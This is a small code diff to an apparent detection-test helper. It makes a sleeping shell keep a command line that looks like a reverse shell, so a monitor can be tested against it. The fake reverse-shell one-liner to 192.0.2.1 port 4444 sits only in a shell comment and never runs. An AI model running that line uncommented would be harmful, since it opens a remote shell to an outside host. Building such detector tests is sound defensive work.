@@ -155,5 +155,6 @@ def changed_file(folder: Path, nonce: str) -> None:
 
 def suspicious_command(nonce: str) -> None:
     """A command line that reads like a reverse shell; it is only a comment of a sleeping shell."""
-    text = f"sleep {HOLD_SECONDS:.0f} # {nonce} bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
+    # A second command keeps the shell, whose command line this is: it would exec a last one away.
+    text = f"sleep {HOLD_SECONDS:.0f}; true # {nonce} bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
     subprocess.run(["/bin/sh", "-c", text], timeout=HOLD_SECONDS * 5, check=False)
